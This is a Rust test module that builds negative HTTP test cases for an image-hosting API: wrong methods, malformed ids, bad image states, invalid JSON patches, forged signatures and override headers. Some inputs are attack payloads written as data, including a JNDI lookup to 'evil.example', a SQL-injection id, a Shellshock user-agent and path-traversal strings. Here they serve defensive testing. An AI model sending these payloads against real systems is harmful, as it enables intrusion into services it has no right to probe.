//! Unsupported methods, invalid ids, images in the wrong state, and invalid changes.

use super::case::{Case, INVALID, MALFORMED, METHOD, NOT_FOUND, NOT_READY, ask, get, raw};
use super::{NOBODY, Stored};

const MERGE: &str = "application/merge-patch+json";

/// The methods of each resource, except `HEAD` and `OPTIONS`.
const HAVE: [(&str, &str); 29] = [
    ("/", "GET"),
    ("/images", "GET POST"),
    ("/images/ID", "GET PATCH DELETE"),
    ("/images/ID/content", "GET"),
    ("/images/ID/similar", "GET"),
    ("/images/ID/retry", "POST"),
    ("/images/by-name/photo.png", "GET"),
    ("/images/by-name/photo.png/content", "GET"),
    ("/stats", "GET"),
    ("/tags", "GET"),
    ("/tags/a/links", "POST"),
    ("/feed.atom", "GET"),
    ("/jobs/resume", "POST"),
    ("/jobs/repack", "POST"),
    ("/jobs/rename-tag", "POST"),
    ("/healthz", "GET"),
    ("/openapi.json", "GET"),
    ("/problems/malformed", "GET"),
    ("/archive", "GET"),
    ("/add", "GET"),
    ("/uploaders/picgo.json", "GET"),
    ("/assets/style.css", "GET"),
    ("/gallery", "POST"),
    ("/session", "POST"),
    ("/images/ID/thumbnail", "GET"),
    ("/upload", "POST"),
    ("/process_image", "POST"),
    ("/basic_stats", "GET"),
    ("/image/photo.png", "GET"),
];

/// Requests with a method that the resource does not have.
pub(super) fn methods(stored: &Stored) -> Vec<Case> {
    let id = &stored.id;
    let mut cases = Vec::new();
    for (path, has) in HAVE {
        for method in "GET POST PUT PATCH DELETE TRACE BREW get delete PROPFIND".split(' ') {
            if !has.split(' ').any(|has| has == method) {
                cases.push(ask(method, path.replace("ID", id)).is(405, METHOD));
            }
        }
    }
    for method in "GETT GE g Post OPTIONSX * ! ~ M-SEARCH %47ET GET|DELETE __proto__".split(' ') {
        cases.push(ask(method, "/stats").is(405, METHOD));
        cases.push(ask(method, format!("/images/{id}")).is(405, METHOD));
    }
    for length in [25, 100, 5000] {
        cases.push(ask(&"X".repeat(length), "/stats").any(&[400, 405, 501]));
    }
    for path in ["/stats", "/images"] {
        cases.push(raw(format!("CONNECT {path} HTTP/1.1\r\nHost: localhost\r\n\r\n")).any(&[400, 405, 501]));
    }
    cases
}

/// Invalid ids: UUIDs of another version or notation, and other texts.
pub(super) fn ids(stored: &Stored) -> Vec<Case> {
    let id = &stored.id;
    let mut cases = Vec::new();
    for wrong in [
        "x".into(),
        "%20".into(),
        "..%2f..".into(),
        format!("{{{id}}}").replace('{', "%7b").replace('}', "%7d"),
        format!("urn:uuid:{id}"),
        id.replace('-', ""),
        id.replace('-', "_"),
        id[..35].into(),
        format!("{id}0"),
        format!("0{id}"),
        format!("{id}%00"),
        format!("%00{id}"),
        format!("{id}%0a"),
        format!("{}g", &id[..35]),
        "00000000-0000-4000-8000-000000000000".into(),
        "00000000-0000-0000-0000-000000000000".into(),
        "ffffffff-ffff-ffff-ffff-ffffffffffff".into(),
        "1".repeat(8000),
        "'%20or%201=1--".into(),
        "%24%7bjndi:ldap:%2f%2fevil.example%7d".into(),
        "b1:i:x".into(),
    ] {
        cases.push(get(format!("/images/{wrong}")).is(404, NOT_FOUND));
        cases.push(get(format!("/images/{wrong}/content")).is(404, NOT_FOUND));
        cases.push(ask("DELETE", format!("/images/{wrong}")).is(404, NOT_FOUND));
        cases.push(ask("PATCH", format!("/images/{wrong}")).body(MERGE, "{\"name\":\"x\"}").is(404, NOT_FOUND));
        cases.push(ask("POST", format!("/images/{wrong}/retry")).is(404, NOT_FOUND));
        cases.push(ask("POST", format!("/images/{wrong}/links")).is(404, NOT_FOUND));
    }
    cases
}

/// Images that do not exist, are not ready, or have not failed; links without a key.
pub(super) fn states(stored: &Stored) -> Vec<Case> {
    let Stored { id, failed, .. } = stored;
    let json = "application/json";
    let mut cases = vec![
        get(format!("/images/{NOBODY}")).is(404, NOT_FOUND),
        get(format!("/images/{NOBODY}/content")).is(404, NOT_FOUND),
        get(format!("/images/{NOBODY}/content")).header("range", "bytes=x").is(404, NOT_FOUND),
        ask("PATCH", format!("/images/{NOBODY}")).body(MERGE, "{\"name\":\"x\"}").is(404, NOT_FOUND),
        ask("POST", format!("/images/{NOBODY}/retry")).is(404, NOT_FOUND),
        ask("DELETE", format!("/images/{NOBODY}")).any(&[204]),
        ask("POST", format!("/images/{id}/retry")).is(409, NOT_READY),
        ask("POST", format!("/images/{id}/retry")).header("prefer", "wait=1").is(409, NOT_READY),
        get(format!("/images/{failed}/content")).is(409, NOT_READY),
        get(format!("/images/{failed}/content")).header("range", "bytes=0-0").is(409, NOT_READY),
        ask("PATCH", format!("/images/{failed}")).body(MERGE, "{\"name\":\"x\"}").is(409, NOT_READY),
        get("/images/by-name/failed").is(404, NOT_FOUND),
        get("/images/by-name/failed/content").is(404, NOT_FOUND),
        get(format!("/images/{id}/links")).any(&[404, 405]),
        ask("POST", format!("/images/{id}/links")).is(404, NOT_FOUND),
        ask("POST", format!("/images/{id}/links")).body(json, "{}").is(404, NOT_FOUND),
        ask("POST", format!("/images/{id}/links")).body(json, "{\"seconds\":60}").is(404, NOT_FOUND),
        ask("POST", format!("/images/{NOBODY}/links")).body(json, "{\"seconds\":60}").is(404, NOT_FOUND),
    ];
    // Without `link_keys` the server makes no link, whatever the body is.
    for seconds in
        ["0", "-1", "1.5", "\"x\"", "null", "604801", "18446744073709551616", "1e3", "[]", "60,\"x\":1", "60"]
    {
        let body = format!("{{\"seconds\":{seconds}}}");
        let case = ask("POST", format!("/images/{id}/links")).header("accept", "*/*").body(json, body);
        cases.push(case.any(&[400, 404, 422]));
    }
    // Signatures that no key made.
    for query in [
        "expires=99999999999&key=a&signature=x",
        "expires=99999999999&key=a&signature=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "expires=0&key=&signature=",
        "expires=-1&key=a&signature=x",
        "expires=x&key=a&signature=%00",
        "expires=1&expires=99999999999&key=a&signature=x",
        "signature=x",
        "key=a",
        "expires=18446744073709551616&key=a&signature=x",
    ] {
        cases.push(get(format!("/images/{id}/content?{query}")).any(&[200, 403]));
    }
    cases
}

/// Invalid changes.
const NO_CHANGES: &str = r#"{ } null true 7 "x" [] [{}] ["x",["b"]] {"name":"x" {"name":"x"}{} {"name":"x",}
    {'name':'x'} {"name":"x","name":"y"} {"tags":[],"tags":["b"]} {"name":"x","url":"http://x/"} {"id":"x"}
    {"name":"x","status":"failed"} {"Name":"x"} {"":1} {"name":"x","__proto__":{}} {"name":"\ud800"}
    [{"op":"replace","path":"/name","value":"x"}]"#;

/// Changes with values of the wrong type, and the `field` that the problem must name.
const WRONG_TYPES: [(&str, &str); 4] = [
    ("name", r#"{"name":7} {"name":true} {"name":["x"]} {"name":{}}"#),
    ("tags", r#"{"tags":"x"} {"tags":7} {"tags":{}} {"name":"x","tags":false}"#),
    ("tags[0]", r#"{"tags":[7]} {"tags":[null]} {"name":"x","tags":[[]]}"#),
    ("tags[1]", r#"{"tags":["x",null]} {"tags":["x",{}]}"#),
];

/// Changes that are refused, although the image could be changed.
pub(super) fn changes(stored: &Stored) -> Vec<Case> {
    let id = &stored.id;
    let patch = |media_type: &str, body: &str| ask("PATCH", format!("/images/{id}")).body(media_type, body);
    let mut cases = Vec::new();
    for body in NO_CHANGES.split_ascii_whitespace().chain(["", " "]) {
        cases.push(patch(MERGE, body).is(400, MALFORMED));
    }
    for (field, bodies) in WRONG_TYPES {
        for body in bodies.split_ascii_whitespace() {
            cases.push(patch(MERGE, body).is(400, MALFORMED).field(field));
            cases.push(patch("application/json", body).is(400, MALFORMED).field(field));
        }
    }
    let (long_name, long_tag) = ("x".repeat(256), "x".repeat(65));
    let many: Vec<_> = (0..33).map(|n| format!("\"{n}\"")).collect();
    for (field, body) in [
        ("name", format!("{{\"name\":\"{long_name}\"}}")),
        ("name", "{\"name\":\"a\\u0000b\"}".into()),
        ("name", "{\"name\":\"a\\nb\"}".into()),
        ("tags", format!("{{\"tags\":[\"{long_tag}\"]}}")),
        ("tags", format!("{{\"name\":\"x\",\"tags\":[{}]}}", many.join(","))),
        ("tags", "{\"name\":\"x\",\"tags\":[\"\"]}".into()),
        ("tags", "{\"name\":\"x\",\"tags\":[\"a\\u0007b\"]}".into()),
    ] {
        cases.push(patch(MERGE, &body).is(422, INVALID).field(field));
    }
    cases
}

/// Headers and queries that name another method or target than the request line, and headers that are to be ignored.
pub(super) fn overrides(stored: &Stored) -> Vec<Case> {
    let id = &stored.id;
    let mut cases = Vec::new();
    for name in ["x-http-method-override", "x-http-method", "x-method-override"] {
        cases.push(get(format!("/images/{id}")).header(name, "DELETE").any(&[200]));
        cases.push(ask("POST", format!("/images/{id}/retry")).header(name, "DELETE").is(409, NOT_READY));
        cases.push(ask("POST", format!("/images/{id}/content")).header(name, "GET").is(405, METHOD));
    }
    for name in
        ["x-original-url", "x-rewrite-url", "x-forwarded-uri", "x-forwarded-path", "forwarded", "x-forwarded-host"]
    {
        cases.push(ask("DELETE", "/images/x").header(name, format!("/images/{id}")).is(404, NOT_FOUND));
    }
    for query in ["_method=DELETE", "method=delete", "action=delete"] {
        cases.push(get(format!("/images/{id}?{query}")).any(&[200]));
    }
    for (name, value) in [
        ("upgrade", "h2c"),
        ("upgrade", "websocket"),
        ("upgrade", "burrow/9"),
        ("expect", "rubbish"),
        ("authorization", "Bearer"),
        ("authorization", "Bearer \u{ff}"),
        ("authorization", "Basic %%%"),
        ("cookie", "=;;=;\u{fc}"),
        ("accept", ";;;q=,,/"),
        ("accept", "text/html;q=nan, */*;q=-1"),
        ("user-agent", "() { :; }; echo"),
        ("x", "${jndi:ldap://evil.example/x}"),
    ] {
        cases.push(get("/stats").header(name, value).any(&[200]));
    }
    cases
}
